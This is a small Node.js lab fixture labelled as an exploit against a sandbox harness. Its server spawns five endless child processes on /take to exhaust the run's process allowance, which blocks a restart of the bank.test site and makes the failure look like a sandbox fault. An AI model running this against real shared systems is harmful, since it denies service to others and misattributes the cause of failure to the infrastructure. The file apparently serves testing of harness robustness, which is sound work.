// exploit: takes every task that its run has, so that another site cannot be restarted, and the run seems to fail by a fault of the sandbox
// kind: lab
// sites: shop.test:3000 bank.test:4000
// steps: GET /take | restart bank.test | GET bank.test/
// outcome: no-server exited finished signal wall-timeout out-of-memory
const http = require('node:http')
const { spawn } = require('node:child_process')
http.createServer((req, res) => {
  if (req.url === '/take') for (let child = 0; child < 5; child += 1) spawn(process.execPath, ['-e', 'setInterval(() => {}, 1000)'], { stdio: 'ignore' }).on('error', () => {})
  setTimeout(() => res.end(req.url), 700)
}).listen(process.env.PORT)
